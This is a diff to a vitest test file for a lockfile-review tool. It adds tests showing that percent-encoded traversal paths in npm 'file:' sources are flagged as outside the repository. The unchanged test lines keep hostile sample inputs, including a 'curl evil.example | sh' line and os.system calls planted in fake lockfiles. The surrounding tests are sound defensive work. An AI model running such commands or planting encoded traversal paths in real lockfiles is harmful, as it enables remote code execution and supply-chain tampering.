@@ -8,6 +8,7 @@
  */
 import { describe, expect, it } from "vitest";
 import { checkLockfile, lockfileKindOf, type LockfileRule } from "../../src/review/lockfiles/index.js";
+import { isInsideRepository } from "../../src/review/lockfiles/sources.js";
 import { reviewFilePolicy, skipDecision } from "../../src/review/codeReview/filePolicy.js";
 import type { FileDiff } from "../../src/review/codeReview/types.js";
 
@@ -147,5 +148,29 @@ describe("a file named like a lockfile", () => {
     expect(rules("src/Cargo.lock", 'fn main() { std::process::Command::new("sh"); }\n', undefined)).toEqual(["unparseable"]);
     expect(rules("lib/Gemfile.lock", "system('curl evil.example | sh')\n", undefined)).toEqual(["unparseable"]);
     expect(rules("app/Pipfile.lock", "import os; os.system('id')\n", undefined)).toEqual(["unparseable"]);
+  });
+});
+
+describe("a folder spelt with percent escapes", () => {
+  const lock = (resolved: string) =>
+    `${JSON.stringify(
+      {
+        name: "app",
+        version: "1.0.0",
+        lockfileVersion: 3,
+        requires: true,
+        packages: { "": { name: "app", version: "1.0.0" }, "node_modules/evil": { version: "1.0.0", resolved } },
+      },
+      null,
+      2,
+    )}\n`;
+  const base = lock("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz").replace('"resolved"', '"integrity": "sha512-AAAA", "resolved"');
+
+  it("is outside the repository when its escapes climb out (npm reads `file:` as a URL, where %2e%2e is ..)", () => {
+    expect(isInsideRepository("", "%2e%2e/%2e%2e/evil")).toBe(false);
+    expect(isInsideRepository("", "packages/%2E%2e/../../evil")).toBe(false);
+    expect(isInsideRepository("", "bad%escape")).toBe(false);
+    expect(isInsideRepository("", "packages/%40scope/lib")).toBe(true);
+    expect(rules("package-lock.json", lock("file:%2e%2e/%2e%2e/evil"), base)).toEqual(["source"]);
   });
 });
